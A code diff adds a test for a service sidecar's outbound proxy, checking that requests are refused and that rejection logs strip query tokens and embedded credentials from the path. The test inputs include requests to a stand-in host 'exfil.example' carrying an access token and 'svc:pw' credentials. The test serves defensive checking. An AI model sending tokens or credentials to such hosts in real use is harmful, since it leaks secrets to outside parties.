@@ -222,3 +222,24 @@ describe('metric labels a token endpoint cannot multiply', () => {
     }
   });
 });
+
+describe('an outbound refusal names the path it was for', () => {
+  it('no_route and token_unavailable lines carry the path, without its query or userinfo', async () => {
+    const s = await startSidecar(
+      { service: 'orders', outbound: { tokenSource: { type: 'env', variable: 'NO_SUCH_TOKEN_VARIABLE' }, routes: [{ host: 'payments', target: app.url, audience: 'payments' }] } },
+      { waitReady: false },
+    );
+    running.push(s);
+    expect((await send(s.outbound!, { target: 'http://exfil.example/upload/batch?access_token=QUERYTOKEN', host: 'exfil.example' })).status).toBe(403);
+    expect((await send(s.outbound!, { target: 'http://svc:pw@exfil.example/upload/batch', host: 'exfil.example' })).status).toBe(400);
+    expect((await send(s.outbound!, { target: '/charge/42?card=QUERYCARD', host: 'payments' })).status).toBe(503);
+    await s.waitForLog((l) => l.event === 'request_rejected' && l.reason === 'token_unavailable');
+    const lines = s.logs.filter((l) => l.event === 'request_rejected');
+    expect(lines.map((l) => [l.reason, l.path])).toEqual([
+      ['no_route', 'http://exfil.example/upload/batch'],
+      ['bad_request', 'http://exfil.example/upload/batch'],
+      ['token_unavailable', '/charge/42'],
+    ]);
+    expect(s.output()).not.toMatch(/QUERYTOKEN|QUERYCARD|svc:pw/);
+  });
+});
